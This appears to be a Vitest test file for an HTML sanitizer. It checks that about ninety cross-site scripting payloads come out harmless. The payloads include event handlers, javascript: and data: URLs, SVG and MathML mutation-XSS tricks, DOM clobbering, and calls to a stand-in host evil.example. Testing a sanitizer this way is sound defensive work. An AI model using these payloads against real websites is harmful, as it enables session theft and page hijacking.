// @vitest-environment jsdom
import { describe, expect, test } from 'vitest';
import { createPurifier } from '../../utils/dom/purify.ts';
import { sanitizeBody } from '../../utils/dom/sanitize.ts';
import { dangersIn } from '../support/dangers-in.ts';

const html = 'http://www.w3.org/1999/xhtml';
const mathml = 'http://www.w3.org/1998/Math/MathML';
const svg = 'http://www.w3.org/2000/svg';

const purify = createPurifier(window as Window & typeof globalThis);
/** As it stands, and as it would stand if someone wrote it out and read it in again, twice. */
function dangersOf(...nodes: Node[]): string[] {
  const row = document.createElement('div');
  row.append(sanitizeBody(nodes, document, purify).copy);
  const dangers = dangersIn(row);
  let markup = row.innerHTML;
  for (let round = 0; round < 2; round++) {
    const again = new DOMParser().parseFromString(markup, 'text/html').body;
    dangers.push(...dangersIn(again).map((danger) => `${danger} when read again`));
    markup = again.innerHTML;
  }
  return dangers;
}

function parsed(markup: string): HTMLElement {
  const page = new DOMParser().parseFromString(`<body><div>${markup}</div></body>`, 'text/html');
  return page.body;
}

const payloads = [
  '<script>pwned()</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<SCRIPT/x>pwned()</SCRIPT>',
  '<img src=x onerror=pwned()>',
  '<img src="x" OnErRoR="pwned()">',
  '<img src="javascript:pwned()">',
  '<img src="data:text/html,<script>pwned()</script>">',
  '<img src="data:image/svg+xml,<svg onload=pwned()>">',
  '<img src="blob:https://blog.example/1">',
  '<img srcset="https://evil.example/x.png 2x" src="/ok.png">',
  '<img src="/ok.png" style="background:url(javascript:pwned())" class="avatar" id="clobber" name="cookie">',
  '<img src="/ok.png" usemap="#m"><map name="m"><area href="javascript:pwned()"></map>',
  '<a href="javascript:pwned()">x</a>',
  '<a href="JaVaScRiPt:pwned()">x</a>',
  '<a href=" &#1; javascript:pwned()">x</a>',
  '<a href="java&#10;script:pwned()">x</a>',
  '<a href="java&#9;script:pwned()">x</a>',
  '<a href="vbscript:pwned()">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://blog.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="chrome://settings">x</a>',
  '<a href="chrome-extension://abc/x.html">x</a>',
  '<a href="view-source:https://blog.example">x</a>',
  '<a href="https://ok.example" onclick="pwned()" onmouseover=pwned() ping="https://evil.example" download style="position:fixed;inset:0">x</a>',
  '<a href="http://[bad">x</a>',
  '<a xlink:href="javascript:pwned()">x</a>',
  '<a id="x"><a id="x" name="href" href="cid:pwned()">x</a></a>',
  '<svg onload=pwned()><circle r=1></svg>',
  '<svg><script>pwned()</script></svg>',
  '<svg><a xlink:href="javascript:pwned()"><text>x</text></a></svg>',
  '<svg><animate attributeName="href" values="javascript:pwned()"></svg>',
  '<svg><foreignObject><iframe src="javascript:pwned()"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=pwned()></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=pwned()>">',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=pwned()>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=pwned()></style></annotation-xml></math>',
  '<math href="javascript:pwned()">x</math>',
  '<math><maction actiontype="statusline#" xlink:href="javascript:pwned()">x</maction></math>',
  '<math><mi xlink:href="javascript:pwned()" onclick=pwned()>x</mi></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<iframe src="javascript:pwned()"></iframe>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<iframe src="data:text/html,<script>pwned()</script>"></iframe>',
  '<object data="javascript:pwned()"></object>',
  '<object><param name="src" value="javascript:pwned()"><embed src="javascript:pwned()"></object>',
  '<embed src="data:image/svg+xml,<svg onload=pwned()>">',
  '<applet code="x"></applet>',
  '<video poster="javascript:pwned()" onloadstart=pwned() src="javascript:pwned()"></video>',
  '<video><source onerror=pwned() src=x></video>',
  '<audio src=x onerror=pwned() autoplay controls></audio>',
  '<style>@import "https://evil.example/x.css"; *{display:none}</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css"><link rel=prefetch href="https://evil.example">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<div style="position:fixed;inset:0;background:url(https://evil.example)">x</div>',
  '<p class="head" id="us-h" slot="x" part="y" data-understory="1" aria-label="z" role="dialog" tabindex="0" contenteditable>x</p>',
  '<form action="https://evil.example"><input name=password autofocus onfocus=pwned()><button formaction="javascript:pwned()">x</button></form>',
  '<input type=image src=x onerror=pwned()><textarea autofocus onfocus=pwned()></textarea><select onfocus=pwned()><option>x</select>',
  '<isindex action="javascript:pwned()"><keygen onfocus=pwned()>',
  '<details open ontoggle=pwned()><summary onclick=pwned()>x</summary></details>',
  '<marquee onstart=pwned()>x</marquee><blink>x</blink>',
  '<body onload=pwned()><frameset onload=pwned()><frame src="javascript:pwned()">',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>"></noscript>',
  '<noembed><p title="</noembed><img src=x onerror=pwned()>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=pwned()>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=pwned()>"></textarea>',
  '<title><p title="</title><img src=x onerror=pwned()>"></title>',
  '<plaintext><img src=x onerror=pwned()>',
  '<template><img src=x onerror=pwned()><script>pwned()</script></template>',
  '<template shadowrootmode="open"><img src=x onerror=pwned()></template>',
  '<x-evil onclick=pwned() is="x-other">x</x-evil><button is="x-evil">x</button>',
  '<slot name="x" onslotchange=pwned()>x</slot>',
  '<dialog open onclose=pwned()>x</dialog><div popover id=p>x</div><button popovertarget=p popovertargetaction=show>x</button>',
  '<p><!-- --!><img src=x onerror=pwned()> --></p>',
  '<![CDATA[<img src=x onerror=pwned()>]]><?xml-stylesheet href="javascript:pwned()"?>',
  '<table background="javascript:pwned()"><tr><td background="x" onclick=pwned()>x</td></tr></table>',
  '<ol type="a&quot;onclick=pwned()" start="1 onclick"><li value="x" type="disc">x</li></ol>',
  '<p lang="&quot;><script>" dir="ltr onclick=pwned()">x</p><bdo dir="rtl" onclick=pwned()>x</bdo>',
  '<abbr title="--&gt;&lt;/style&gt;&lt;img src=x onerror=pwned()&gt;">x</abbr>',
  '<img alt="--&gt;&lt;img src=x onerror=pwned()&gt;" src="/ok.png">',
  '<label for="patch"></label><div patchsrc="https://evil.example" for="x">x</div>',
  '<p>&lt;script&gt;pwned()&lt;/script&gt; &lt;img src=x onerror=pwned()&gt;</p>',
  '<font color="red" face="x" onclick=pwned()>x</font><center onclick=pwned()>y</center>',
  '<a href="https://user:pass@blog.example/" rel="opener" target="_top" referrerpolicy="unsafe-url">x</a>',
  '<img src="/ok.png" crossorigin="use-credentials" referrerpolicy="unsafe-url" fetchpriority=high width="100%" height="9999999" loading="eager">',
  '<picture><source srcset="https://evil.example/x.avif"><img src="/ok.png" sizes=auto></picture>',
  '<portal src="https://evil.example"></portal><fencedframe></fencedframe>',
];

test('there are more than sixty payloads in which the check here sees a danger', () => {
  const dangerous = payloads.filter((payload) => dangersIn(parsed(payload).firstElementChild as Element).length > 0);
  expect(new Set(dangerous).size).toBeGreaterThan(60);
});

test.each(payloads)('%s', (payload) => {
  expect(dangersOf(parsed(payload))).toEqual([]);
  expect(dangersOf(...(parsed(payload).firstElementChild?.childNodes ?? []))).toEqual([]);
  // With a formula beside it everything takes the other way, past DOMPurify.
  expect(dangersOf(parsed(`<math><mi>x</mi></math>${payload}`))).toEqual([]);
});

test('every payload at once', () => {
  expect(dangersOf(parsed(payloads.join('\n')))).toEqual([]);
});

describe('trees that no parser makes', () => {
  const inert = document.implementation.createHTMLDocument('');
  const made = (name: string, namespace = html) => inert.createElementNS(namespace, name);

  test('a form whose fields hide what it is', () => {
    const form = made('form');
    form.setAttribute('onsubmit', 'pwned()');
    for (const name of [
      'localName',
      'nodeType',
      'childNodes',
      'parentNode',
      'attributes',
      'firstChild',
      'nextSibling',
    ]) {
      const field = made('input');
      field.setAttribute('name', name);
      form.append(field);
    }
    const image = made('img');
    image.setAttribute('src', 'x');
    image.setAttribute('onerror', 'pwned()');
    form.append(image, 'words');
    const box = made('div');
    box.append(form);
    expect(dangersOf(box)).toEqual([]);
    expect(dangersOf(form)).toEqual([]);
    expect(sanitizeBody([box], document, purify).copy.textContent).toBe('words');
  });

  test('names in capitals and foreign namespaces', () => {
    const box = made('div');
    for (const [name, namespace] of [
      ['SCRIPT', html],
      ['Img', html],
      ['script', svg],
      ['a', svg],
      ['p', svg],
      ['script', mathml],
      ['img', mathml],
      ['a', mathml],
      ['style', mathml],
      ['p', 'urn:unknown'],
    ] as const) {
      const element = made(name, namespace);
      element.setAttribute('onclick', 'pwned()');
      element.setAttribute('href', 'javascript:pwned()');
      element.append('x');
      box.append(element);
    }
    expect(dangersOf(box)).toEqual([]);
  });

  test('a link within a link, a paragraph within a paragraph, a row without a table', () => {
    const outer = made('a');
    outer.setAttribute('href', 'https://ok.example/');
    const inner = made('a');
    inner.setAttribute('href', 'javascript:pwned()');
    const paragraph = made('p');
    paragraph.append(made('tr'), made('p'));
    outer.append(inner, paragraph);
    expect(dangersOf(outer)).toEqual([]);
  });

  test('a shadow root, comments and instructions', () => {
    const box = made('div');
    const host = made('span');
    const hidden = host.attachShadow({ mode: 'open' });
    const script = made('script');
    script.append('pwned()');
    hidden.append(script);
    box.append(host, inert.createComment('--><script>pwned()</script>'), inert.createProcessingInstruction('x', 'y'));
    expect(dangersOf(box)).toEqual([]);
  });
});

test('nothing of it runs, not even once it stands in the document', () => {
  const page = window as unknown as { pwned?: () => void };
  let calls = 0;
  page.pwned = () => {
    calls += 1;
  };
  const row = document.createElement('div');
  document.body.append(row);
  row.append(sanitizeBody([parsed(payloads.join(''))], document, purify).copy);
  for (const element of row.querySelectorAll('*')) {
    for (const type of ['error', 'load', 'click', 'focus', 'mouseover', 'toggle']) {
      // A click on a link would leave the page.
      element.dispatchEvent(new Event(type, { bubbles: false, cancelable: true }));
    }
  }
  expect(calls).toBe(0);
  delete page.pwned;
});
